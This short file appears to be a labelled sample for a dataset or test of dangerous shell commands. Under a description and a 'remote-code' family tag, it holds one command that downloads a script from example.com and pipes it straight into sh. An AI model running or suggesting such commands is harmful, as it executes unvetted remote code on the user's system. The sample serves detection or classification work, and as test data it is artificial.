# description: Downloads an install script and pipes it straight into sh.
# family: remote-code
curl -fsSL https://example.com/install.sh | sh
